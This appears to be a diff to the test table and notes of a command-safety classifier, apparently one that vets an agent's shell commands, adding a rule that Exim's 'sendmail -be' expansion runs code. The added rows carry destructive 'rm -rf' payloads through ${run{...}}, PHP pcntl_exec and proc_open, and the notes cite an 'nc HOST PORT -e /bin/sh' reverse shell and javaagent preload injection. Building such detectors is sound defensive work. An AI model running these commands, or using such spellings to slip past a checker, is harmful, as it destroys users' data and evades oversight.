@@ -35,7 +35,8 @@ file under ~/.config is found under any XDG_CONFIG_HOME (DIR/tmux/tmux.conf writ
 XDG_CONFIG_HOME=DIR tmux). (16) netcat or socat among an unknown launcher's words (rlwrap nc HOST PORT -e /bin/sh,
 firejail nc ...) is read as if it ran, as a security program there already was; (17) go env -w
 GOFLAGS=-toolexec=X/-exec=X is read as go build -toolexec X; (18) PHP's pcntl_exec and
-proc_open given an argv list run it. Earlier rows changed, on purpose: round 32 benign32's
+proc_open given an argv list run it; (19) Exim's sendmail -be STRING expands STRING (${run{CMD}}):
+its words are code, not a message. Earlier rows changed, on purpose: round 32 benign32's
 `JAVA_TOOL_OPTIONS=-javaagent:x.jar jar tf a.jar` and `export JDK_JAVA_OPTIONS=-javaagent:x.jar &&
 javap Foo`, redteam32's `JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar kotlin -version` read KKKDD (were
 KKADD): an agent in the JVM's environment options is round 29's preload-variable class (LD_PRELOAD,
@@ -238,6 +239,10 @@ MORE = [
     ("php -r 'pcntl_exec(\"/bin/rm\", [\"-rf\", \"/home/dev\"]);'", 'DDDDD'),
     ("php -r 'proc_open([\"rm\", \"-rf\", \"/home/dev\"], [], $p);'", 'DDDDD'),
     ("php -r 'pcntl_exec(\"/bin/ls\", [\"-la\"]);'", 'KKADD'),
+    ("sendmail -be '${run{/bin/sh -c \"rm -rf ~\"}}'", 'DDDDD'),
+    ("exim -be '${run{/bin/sh -c \"rm -rf ~\"}}'", 'DDDDD'),
+    ('sendmail -t < mail.txt', 'KKADD'),
+    ("sendmail -be '${lc:ABC}'", 'KKADD'),
 ]
 
 # held: GTFOBins spellings that were already denied, kept as a guard (and the 0< rows, fixed)
